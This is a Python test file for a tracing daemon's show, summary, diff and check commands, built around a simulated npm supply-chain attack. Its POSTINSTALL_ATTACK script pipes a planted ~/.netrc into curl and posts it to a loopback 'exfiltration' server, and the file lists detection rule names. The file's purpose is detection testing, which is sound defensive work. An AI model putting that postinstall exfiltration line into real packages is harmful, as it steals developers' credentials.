# SPDX-License-Identifier: GPL-2.0-only
"""
tracerd show, summary, diff and check on traces recorded here by the real daemon: a fake
`npm install` whose postinstall script reads a planted ~/.netrc and posts it to a loopback
"exfiltration" server, and its clean twin (the same install without the exfiltration),
recorded twice. diff and check must flag exactly the attack, and nothing in the twin.
"""

import gzip
import hashlib
import json
import os
import re
import shutil
import subprocess
import threading
import time

import tracelib
from tracelib import Checks, TCPServer

NPM = """#!/bin/sh
# A stand-in for npm: "install" fetches the package from the registry, then runs the
# package's postinstall script through sh -c, as npm runs lifecycle scripts.
set -eu
[ "${1:-}" = install ] || exit 1
python3 -c 'import sys, urllib.request; urllib.request.urlopen(sys.argv[1], timeout=10).read()' \\
	"http://127.0.0.1:$REGISTRY_PORT/left-pad-1.3.0.tgz"
cd "$PKG_DIR"
sh -c 'sh ./postinstall.sh'
"""

POSTINSTALL_CLEAN = """#!/bin/sh
echo "left-pad built" > build.log
"""

POSTINSTALL_ATTACK = POSTINSTALL_CLEAN + """\
cat "$HOME/.netrc" | curl -s --max-time 10 --data-binary @- "http://127.0.0.1:$EXFIL_PORT/c"
"""

_recorded = {}


def _write(path, text, mode=0o644):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        f.write(text)
    os.chmod(path, mode)


def _record_install(name, attack, registry, exfil):
    """One traced `npm install` in a fresh job directory; returns the Run."""
    # The same directory name for every run, as a CI job's workspace has (N-TEST-job).
    d = tracelib.tmpdir("-job")
    home, work = os.path.join(d, "home"), os.path.join(d, "work")
    pkg = os.path.join(work, "node_modules", "left-pad")
    _write(os.path.join(d, "bin", "npm"), NPM, 0o755)
    _write(os.path.join(home, ".netrc"), "machine registry.example login ci password s3cr3t\n",
           0o600)
    _write(os.path.join(pkg, "postinstall.sh"),
           POSTINSTALL_ATTACK if attack else POSTINSTALL_CLEAN)
    env = dict(tracelib.WORKLOAD_ENV, HOME=home, PKG_DIR=pkg,
               REGISTRY_PORT=str(registry.port), EXFIL_PORT=str(exfil.port),
               PATH=os.path.join(d, "bin") + ":" + tracelib.WORKLOAD_ENV["PATH"])
    out = os.path.join(d, f"{name}.jsonl.gz")
    run = tracelib.run_tracerd(["npm", "install"], cwd=work, env=env, out=out,
                               job_id=f"npm-{name}")
    run.home, run.work = home, work
    if run.problems:
        raise AssertionError("trace checks failed:\n" + "\n".join(run.problems))
    return run


def recorded():
    """The three traces, recorded once per session: clean, clean again, attack."""
    if not _recorded:
        tracelib.require_daemon()
        with TCPServer() as registry, TCPServer() as exfil:
            for name, attack in (("clean", False), ("clean2", False), ("attack", True)):
                before = exfil.accepted
                _recorded[name] = _record_install(name, attack, registry, exfil)
                got = exfil.accepted - before
                if got != (1 if attack else 0):
                    raise AssertionError(f"{name}: the exfiltration server got {got} requests")
            _recorded["registry_port"] = registry.port
            _recorded["exfil_port"] = exfil.port
    return _recorded


def reader(*args, input_bytes=None, env=None):
    """Runs tracerd COMMAND ARGS...: (rc, stdout text, stderr text)."""
    tracelib.require_binary()
    p = subprocess.run([str(tracelib.TRACERD), *args], input=input_bytes, capture_output=True,
                       timeout=120, env=env or tracelib.WORKLOAD_ENV)
    return p.returncode, p.stdout.decode("utf-8", "replace"), p.stderr.decode("utf-8", "replace")


def reader_json(*args, expect_rc=0):
    rc, out, err = reader(*args)
    if rc != expect_rc:
        raise AssertionError(f"tracerd {' '.join(args)} exited {rc}, expected {expect_rc}\n"
                             f"stdout: {out[:3000]}\nstderr: {err}")
    return json.loads(out)


def _exec_line(run, pred):
    found = [o for o in run.lines if o["type"] == "process_exec" and pred(o)]
    if len(found) != 1:
        raise AssertionError("expected one exec, found:\n" + tracelib.show(found))
    return found[0]


# --------------------------------------------------------------------------------------
# summary

def test_summary_of_the_attack():
    r = recorded()
    run, exfil, registry = r["attack"], r["exfil_port"], r["registry_port"]
    doc = reader_json("summary", "--json", "--workspace", run.work, run.out_path)
    c = Checks()
    t = doc["trace"]
    c.check(t["job_id"] == "npm-attack" and t["complete"] is True and t["lost"] == 0
            and t["lines"] == len(run.lines), f"trace facts {t}")
    counts = {}
    for o in run.lines:
        counts[o["type"]] = counts.get(o["type"], 0) + 1
    c.check(t["lines_by_type"] == counts, f"lines_by_type {t['lines_by_type']} != {counts}")
    exes = {e["exe"]: e for e in doc["executables"]}
    for exe in ("/usr/bin/cat", "/usr/bin/curl"):
        c.check(exe in exes and exes[exe]["count"] == 1
                and exes[exe]["parents"][0]["parent"] == "/usr/bin/dash [sh]",
                f"{exe} run once by the postinstall sh: {exes.get(exe)}")
    hashes = {e["file"]: [h["sha256"] for h in e["hashes"]] for e in doc["executable_hashes"]}
    for exe in ("/usr/bin/cat", "/usr/bin/curl"):
        with open(exe, "rb") as f:
            want = hashlib.sha256(f.read()).hexdigest()
        c.check(hashes.get(exe) == [want], f"{exe}'s hash {hashes.get(exe)} != {want}")
    conns = {e["process"]: [d["destination"] for d in e["destinations"]]
             for e in doc["connections"]}
    c.check(conns.get("/usr/bin/curl") == [f"127.0.0.1:{exfil}/tcp"], f"curl's hosts {conns}")
    py = [p for p in conns if "python3" in p]
    c.check(len(py) == 1 and conns[py[0]] == [f"127.0.0.1:{registry}/tcp"],
            f"python3 (npm's fetch) contacted only the registry: {conns}")
    netrc = os.path.join(run.home, ".netrc")
    c.check(doc["sensitive_reads"] == [
        {"path": netrc, "count": 1, "processes": [{"process": "/usr/bin/cat", "count": 1}]}],
        f"sensitive reads {doc['sensitive_reads']}")
    c.check(doc["still_running"] == [] and doc["tamper"] == [] and doc["dns"] == [],
            f"nothing running, no tamper, no DNS: {doc['still_running']} {doc['tamper']}")
    outside = [w["path"] for w in doc["writes_outside_workspace"]]
    c.check(not any(p.startswith(run.work + "/") for p in outside),
            f"writes inside the workspace are not listed: {outside}")
    rc, text, err = reader("summary", "--workspace", run.work, run.out_path)
    c.check(rc == 0 and "Sensitive files read (1)" in text and netrc in text
            and f"127.0.0.1:{exfil}/tcp" in text and "complete" in text,
            f"text summary (rc {rc}):\n{text}\n{err}")
    rc, md, err = reader("summary", "--markdown", run.out_path)
    c.check(rc == 0 and md.startswith("### tracerd summary: job npm-attack")
            and "#### Sensitive files read (1)" in md and f"`{netrc}`" in md,
            f"markdown summary (rc {rc}):\n{md}\n{err}")
    c.done()


def test_summary_reads_plain_jsonl_and_stdin():
    run = recorded()["clean"]
    with gzip.open(run.out_path, "rb") as f:
        plain = f.read()
    d = tracelib.tmpdir()
    path = os.path.join(d, "clean.jsonl")
    with open(path, "wb") as f:
        f.write(plain)
    want = reader_json("summary", "--json", run.out_path)
    for args, data in ((("summary", "--json", path), None), (("summary", "--json", "-"), plain)):
        rc, out, err = reader(*args, input_bytes=data)
        got = json.loads(out) if rc == 0 else None
        if got:
            got["trace"]["file"] = want["trace"]["file"]
        assert got == want, f"{args}: rc {rc}, {err}\n{out[:2000]}"


def test_summary_of_a_trace_cut_short():
    run = recorded()["attack"]
    with gzip.open(run.out_path, "rb") as f:
        lines = f.read().split(b"\n")
    d = tracelib.tmpdir()
    cut = os.path.join(d, "cut.jsonl.gz")
    # The first 60% of the lines in whole members, then half a member: a crashed tracerd.
    keep = int(len(lines) * 0.6)
    with open(cut, "wb") as f:
        f.write(gzip.compress(b"\n".join(lines[:keep]) + b"\n"))
        f.write(gzip.compress(b"\n".join(lines[keep:]))[:200])
    rc, out, err = reader("summary", cut)
    assert rc == 0 and "CUT SHORT" in out, f"rc {rc}\n{out}\n{err}"
    doc = reader_json("summary", "--json", cut)
    assert doc["trace"]["complete"] is False and doc["trace"]["truncated"] is True \
        and doc["trace"]["lines"] >= keep, doc["trace"]
    doc = reader_json("check", "--json", cut, expect_rc=1)
    rules = [f["rule"] for f in doc["findings"]]
    assert "trace-incomplete" in rules, doc


# --------------------------------------------------------------------------------------
# check

def _rules(doc):
    return sorted(f["rule"] for f in doc["findings"])


def test_check_flags_the_attack_and_nothing_in_the_clean_twin():
    r = recorded()
    attack, clean = r["attack"], r["clean"]
    allow = f"127.0.0.1:{r['registry_port']}"
    c = Checks()
    doc = reader_json("check", "--json", attack.out_path, expect_rc=1)
    c.check(_rules(doc) == ["credential-read", "install-downloader"],
            f"attack without an allow-list: {json.dumps(doc, indent=1)[:3000]}")
    doc = reader_json("check", "--json", "--allow-host", allow, attack.out_path, expect_rc=1)
    c.check(_rules(doc) == ["credential-read", "host-not-allowed", "install-downloader"],
            f"attack with the registry allowed: {json.dumps(doc, indent=1)[:3000]}")
    for f in doc["findings"]:
        # Every evidence line number points at the trace line it quotes.
        for ev in f["evidence"]:
            line = attack.lines[ev["line"] - 1]
            c.check(str(line.get("pid")) in ev["text"].split(":")[0],
                    f"{f['rule']}: evidence line {ev['line']} is {line}, text {ev['text']}")
    by_rule = {f["rule"]: f for f in doc["findings"]}
    cred = by_rule.get("credential-read")
    if cred:
        last = attack.lines[cred["evidence"][-1]["line"] - 1]
        c.check(last["type"] == "file_open" and last["path"].endswith("/home/.netrc"),
                f"credential-read proven by the open of .netrc: {last}")
        c.check(any("npm install" in e["text"] for e in cred["evidence"]),
                f"credential-read names the install step: {cred['evidence']}")
    dl = by_rule.get("install-downloader")
    if dl:
        c.check("/usr/bin/curl" in dl["message"] and "npm install" in dl["message"], f"{dl}")
    host = by_rule.get("host-not-allowed")
    if host:
        c.check(f"127.0.0.1:{r['exfil_port']}/tcp" in host["message"], f"{host}")
    for run in (clean, r["clean2"]):
        for extra in ((), ("--allow-host", allow)):
            doc = reader_json("check", "--json", *extra, run.out_path, expect_rc=0)
            c.check(doc["findings"] == [], f"clean twin {extra}: {doc}")
    # npm runs lifecycle scripts through sh: a note, shown with --all, never a failure.
    doc = reader_json("check", "--json", "--all", clean.out_path, expect_rc=0)
    c.check(_rules(doc) and set(_rules(doc)) == {"install-shell"}, f"clean --all: {doc}")
    rc, text, err = reader("check", attack.out_path)
    c.check(rc == 1 and "error credential-read:" in text and
            f"{attack.out_path}:{cred['evidence'][-1]['line'] if cred else 0}:" in text,
            f"text output (rc {rc}):\n{text}\n{err}")
    c.done()


def test_check_sarif():
    r = recorded()
    attack = r["attack"]
    doc = reader_json("check", "--sarif", "--allow-host", f"127.0.0.1:{r['registry_port']}",
                      attack.out_path, expect_rc=1)
    assert doc["version"] == "2.1.0", doc
    run = doc["runs"][0]
    ids = {rule["id"] for rule in run["tool"]["driver"]["rules"]}
    assert {"credential-read", "install-downloader", "pipe-to-shell", "proc-memory-read",
            "exec-from-temp", "listener", "tamper"} <= ids, ids
    results = sorted(run["results"], key=lambda x: x["ruleId"])
    assert [x["ruleId"] for x in results] == ["credential-read", "host-not-allowed",
                                               "install-downloader"], results
    for x in results:
        loc = x["locations"][0]["physicalLocation"]
        assert loc["artifactLocation"]["uri"] == attack.out_path and x["level"] == "error", x
        assert 1 <= loc["region"]["startLine"] <= len(attack.lines), x


def test_check_rules_file():
    r = recorded()
    d = tracelib.tmpdir()
    rules = os.path.join(d, "rules")
    _write(rules, f"""# the job's policy
allow-host 127.0.0.1:{r['registry_port']}
allow-host *.npmjs.org:443
severity credential-read warning
severity install-downloader off
""")
    doc = reader_json("check", "--json", "--rules", rules, r["attack"].out_path, expect_rc=1)
    sev = {f["rule"]: f["severity"] for f in doc["findings"]}
    assert sev == {"credential-read": "warning", "host-not-allowed": "error"}, doc
    # --fail-on error: a warning alone does not fail the gate.
    _write(rules, "severity credential-read warning\nseverity install-downloader note\n")
    rc, out, err = reader("check", "--rules", rules, "--fail-on", "error", r["attack"].out_path)
    assert rc == 0 and "warning credential-read" in out, (rc, out, err)
    _write(rules, "allow-host 127.0.0.1\nfrobnicate yes\n")
    rc, out, err = reader("check", "--rules", rules, r["attack"].out_path)
    assert rc == 2 and f"{rules}:2: unknown directive 'frobnicate'" in err, (rc, out, err)


# --------------------------------------------------------------------------------------
# diff

def test_diff_flags_exactly_the_attack():
    r = recorded()
    clean, clean2, attack = r["clean"], r["clean2"], r["attack"]
    c = Checks()
    # Two clean runs differ in temp names, pids, ports of their own, times: not in keys.
    rc, out, err = reader("diff", clean.out_path, clean2.out_path)
    c.check(rc == 0 and "nothing new" in out, f"clean vs clean2 (rc {rc}):\n{out}\n{err}")
    rc, out, err = reader("diff", attack.out_path, clean.out_path)
    c.check(rc == 0 and "nothing new" in out, f"the clean twin against the attack:\n{out}")
    doc = reader_json("diff", "--json", clean.out_path, clean2.out_path, attack.out_path,
                      expect_rc=1)
    new = doc["new"]
    keys = {cat: [x["key"] for x in items] for cat, items in new.items()}
    c.check(keys["executables"] == ["/usr/bin/cat", "/usr/bin/curl"], f"{keys}")
    c.check(keys["destinations"] == [f"127.0.0.1:{r['exfil_port']}/tcp"], f"{keys}")
    c.check(len(keys["sensitive_reads"]) == 1 and
            re.fullmatch(r"/tmp/tracerd-e2e-\*/N-test_reader\.[a-z_]+-job/home/\.netrc by cat",
                         keys["sensitive_reads"][0]) is not None, f"{keys}")
    c.check(keys["dns"] == [] and keys["listeners"] == [] and doc["total"] == 4, f"{doc}")
    dest = new["destinations"][0] if new["destinations"] else {}
    c.check(dest.get("process") == "/usr/bin/curl" and
            attack.lines[dest.get("line", 1) - 1].get("dst_port") == r["exfil_port"], f"{dest}")
    rc, out, err = reader("diff", clean.out_path, attack.out_path)
    c.check(rc == 1 and "New destinations (1)" in out and "+ /usr/bin/curl" in out
            and "4 new items" in out, f"text diff (rc {rc}):\n{out}\n{err}")
    c.done()


def _sha256(path):
    with open(path, "rb") as f:
        return hashlib.sha256(f.read()).hexdigest()


def test_diff_changed_executables():
    # The same job twice, its tool and its script replaced in between (what a tampered
    # cache or dependency does): the second run ran nothing new by path, but two files
    # changed content. A third run of the second version against both is unchanged.
    d = tracelib.tmpdir()
    tool, script = os.path.join(d, "tool"), os.path.join(d, "build.sh")
    job = ["/bin/sh", "-c", f"{tool}; {script}; /bin/true"]

    def install(binary, body):
        shutil.copy(binary, tool + ".new")
        os.replace(tool + ".new", tool)
        with open(script + ".new", "w") as f:
            f.write(f"#!/bin/sh\n{body}\n")
        os.chmod(script + ".new", 0o755)
        os.replace(script + ".new", script)
        # The hasher hashes a script only once its ctime is 20 ms before the exec.
        time.sleep(0.1)
        return _sha256(tool), _sha256(script)

    c = Checks()
    old = install("/bin/true", "exit 0")
    first = tracelib.run_tracerd(job)
    new = install("/bin/false", "echo changed >/dev/null")
    second = tracelib.run_tracerd(job)
    third = tracelib.run_tracerd(job)
    c.run = second
    doc = reader_json("diff", "--json", first.out_path, second.out_path, expect_rc=1)
    new_items = doc["new"]
    changed = {x["key"]: x for x in new_items["changed_executables"]}
    c.check(sorted(changed) == sorted([tool, script]), f"changed: {list(changed)}")
    for path, now, was in ((tool, new[0], old[0]), (script, new[1], old[1])):
        item = changed.get(path, {})
        c.check(item.get("sha256") == now and item.get("baseline_sha256") == [was],
                f"{path}: {item}")
        line = second.lines[item.get("line", 1) - 1]
        c.check(line.get("type") == "process_exec", f"{path}'s line {line}")
    c.check(new_items["executables"] == [] and doc["total"] == 2, f"{doc}")
    rc, out, err = reader("diff", first.out_path, second.out_path)
    c.check(rc == 1 and "Changed executables (2)" in out and f"~ {tool}" in out
            and f"sha256 {new[0]}, baseline {old[0]}" in out, f"text (rc {rc}):\n{out}\n{err}")
    # Both versions in the baselines: the second's digests are known there.
    rc, out, err = reader("diff", first.out_path, second.out_path, third.out_path)
    c.check(rc == 0 and "nothing new" in out, f"against both versions (rc {rc}):\n{out}\n{err}")
    c.done()


# --------------------------------------------------------------------------------------
# show

def test_show_tree_and_filters():
    run = recorded()["attack"]
    c = Checks()
    rc, out, err = reader("show", run.out_path)
    lines = out.splitlines()
    c.check(rc == 0 and len(lines) == len(run.lines) and "\033[" not in out,
            f"one line per event, no colour on a pipe: rc {rc}, {len(lines)} lines of "
            f"{len(run.lines)}\n{err}")
    npm = _exec_line(run, lambda o: o["args"][1:] == [os.path.dirname(run.home) + "/bin/npm",
                                                      "install"])
    curl = _exec_line(run, lambda o: o["exe"] == "/usr/bin/curl")
    by_id = {o["exec_id"]: o for o in run.lines if o["type"] == "process_exec"}
    hops, e = 0, curl
    while e is not None and e is not npm:
        e, hops = by_id.get(e.get("parent_exec_id")), hops + 1

    def indent(needle):
        m = [ln for ln in lines if needle in ln]
        c.check(len(m) == 1, f"one line with {needle!r}: {m}")
        got = re.match(r"^\S+ +\d+ ( *)\S", m[0]) if m else None
        return len(got.group(1)) if got else -1

    c.check(e is npm and hops >= 2, f"curl descends from npm ({hops} execs down)")
    c.check(indent("exec /usr/bin/curl") - indent("/bin/npm install") == 2 * hops,
            f"curl shown {hops} levels under npm")
    rc, out, err = reader("show", "--type", "process_exec", "--comm", "cu*", run.out_path)
    c.check(rc == 0 and len(out.splitlines()) == 1 and "exec /usr/bin/curl -s" in out, out)
    c.check(f"[sha256 {curl['exe_sha256'][:12]}]" in out, f"curl's hash, shortened: {out}")
    rc, out, err = reader("show", "--path", "*/.netrc", "--jsonl", run.out_path)
    got = [json.loads(x) for x in out.splitlines()]
    want = [o for o in run.lines if o.get("path", "").endswith("/.netrc")]
    c.check(rc == 0 and got == want and len(want) == 1, f"--path --jsonl: {out}")
    execs = [o for o in run.lines if o["type"] == "process_exec"]
    rc, out, err = reader("show", "--pid", str(npm["pid"]), "--type", "process_exec",
                          run.out_path)
    c.check(rc == 0 and len(out.splitlines()) == len(execs),
            f"--pid of npm: npm and every descendant's exec ({len(execs)}):\n{out}")
    rc, out, err = reader("show", "--pid", str(curl["pid"]), run.out_path)
    c.check(rc == 0 and len(out.splitlines()) == sum(o.get("pid") == curl["pid"]
                                                     for o in run.lines),
            f"--pid of curl: its own lines only:\n{out}")
    rc, out, err = reader("show", "--color", "always", "--type", "net_connect", run.out_path)
    c.check(rc == 0 and "\033[36mconnect 127.0.0.1:" in out, f"--color always: {out!r}")
    first = run.lines[0]["timestamp"]
    rc, out, err = reader("show", "--until", first, run.out_path)
    c.check(rc == 0 and out.splitlines() == [lines[0]], f"--until the first line: {out}")
    rc, out, err = reader("show", "--since", "+3600", run.out_path)
    c.check(rc == 0 and out == "", f"--since an hour later: {out}")
    rc, out, err = reader("show", "--type", "bogus", run.out_path)
    c.check(rc == 0 and out == "", "an unknown type selects nothing")
    c.done()


def test_show_follow_a_trace_being_written():
    tracelib.require_daemon()
    d = tracelib.tmpdir()
    out = os.path.join(d, "live.jsonl.gz")
    script = "for i in 1 2 3 4 5 6 7 8 9 10; do cat /etc/hostname >/dev/null; sleep 0.5; done"
    daemon = subprocess.Popen([str(tracelib.TRACERD), "--job-id", "live", "--out", out,
                               "--flush-interval", "100", "--", "sh", "-c", script],
                              env=tracelib.WORKLOAD_ENV, stdout=subprocess.DEVNULL,
                              stderr=subprocess.PIPE)
    try:
        deadline = time.time() + 30
        while not os.path.exists(out) and time.time() < deadline:
            time.sleep(0.05)
        show = subprocess.Popen([str(tracelib.TRACERD), "show", "--follow", "--type",
                                 "process_exec,trace_end", out], stdout=subprocess.PIPE,
                                stderr=subprocess.PIPE)
        first = show.stdout.readline().decode()
        t_first = time.time()
        assert "exec /usr/bin/dash -c" in first, first
        assert daemon.poll() is None, "the trace should still be being written"
        # Not communicate(): it reads the pipe's fd directly, and would lose the lines
        # readline() above has already buffered after the first.
        timer = threading.Timer(60, show.kill)
        timer.start()
        try:
            rest, err = show.stdout.read(), show.stderr.read()
            show.wait()
        finally:
            timer.cancel()
        t_end = time.time()
        assert daemon.wait(30) == 0
    finally:
        if daemon.poll() is None:
            daemon.kill()
    rest = rest.decode()
    assert show.returncode == 0 and "trace end:" in rest.splitlines()[-1], (rest, err)
    assert rest.count("exec /usr/bin/cat /etc/hostname") == 10, rest
    assert t_end - t_first > 2.5, "show --follow printed the first exec while the job ran"


# --------------------------------------------------------------------------------------
# Input errors and line types the reader does not know

def test_input_errors_name_the_file_and_line():
    run = recorded()["clean"]
    d = tracelib.tmpdir()
    good = [json.dumps(o, separators=(",", ":")) for o in run.lines]
    bad = os.path.join(d, "bad.jsonl")
    with open(bad, "w") as f:
        f.write("\n".join(good[:2] + ['{"type":"file_open","pid":1,'] + good[2:]) + "\n")
    for cmd in ("show", "summary", "check"):
        rc, out, err = reader(cmd, bad)
        assert rc == 2 and f"{bad}: line 3: invalid JSON" in err, (cmd, rc, err)
    rc, out, err = reader("diff", run.out_path, bad)
    assert rc == 2 and f"{bad}: line 3:" in err, (rc, err)
    notype = os.path.join(d, "notype.jsonl")
    with open(notype, "w") as f:
        f.write(good[0] + "\n[1,2]\n")
    rc, out, err = reader("summary", notype)
    assert rc == 2 and f"{notype}: line 2: not a JSON object" in err, (rc, err)
    corrupt = os.path.join(d, "corrupt.jsonl.gz")
    with open(run.out_path, "rb") as f:
        data = bytearray(f.read())
    data[len(data) // 2] ^= 0xFF
    data[len(data) // 2 + 1] ^= 0xFF
    with open(corrupt, "wb") as f:
        f.write(data)
    rc, out, err = reader("summary", corrupt)
    assert rc == 2 and corrupt in err and "line" in err, (rc, err)
    rc, out, err = reader("summary", os.path.join(d, "missing.jsonl.gz"))
    assert rc == 2 and "missing.jsonl.gz: No such file or directory" in err, (rc, err)
    for args in (("summary",), ("diff", bad), ("check", "--fail-on", "x", bad),
                 ("show", "--pid", "x", bad), ("summary", "--bogus", bad)):
        rc, out, err = reader(*args)
        assert rc == 2 and f"tracerd {args[0]}" in err, (args, rc, err)


def test_unknown_and_future_line_types():
    run = recorded()["clean"]
    d = tracelib.tmpdir()
    lines = [dict(o) for o in run.lines]
    common = {k: lines[1][k] for k in ("timestamp", "job_id", "pid", "tid", "ppid", "uid",
                                       "comm", "exec_id", "cgroup_id")}
    extra = [dict(common, type="net_listen", addr="0.0.0.0", port=8080, protocol="tcp"),
             dict(common, type="process_access", target_pid=1, action="ptrace"),
             dict(common, type="quantum_flux", level=3)]
    path = os.path.join(d, "future.jsonl")
    with open(path, "w") as f:
        for o in lines[:2] + extra + lines[2:]:
            f.write(json.dumps(o, separators=(",", ":")) + "\n")
    rc, out, err = reader("show", "--type", "net_listen,process_access,quantum_flux", path)
    assert rc == 0 and out.splitlines()[0].endswith("listen 0.0.0.0:8080/tcp") \
        and "access pid 1 ptrace" in out and 'quantum_flux {"level":3}' in out, (out, err)
    doc = reader_json("check", "--json", path, expect_rc=1)
    assert _rules(doc) == ["listener", "proc-memory-read"], doc
    doc = reader_json("summary", "--json", path)
    assert doc["trace"]["lines_by_type"]["other"] == 1 and len(doc["listeners"]) == 1, doc
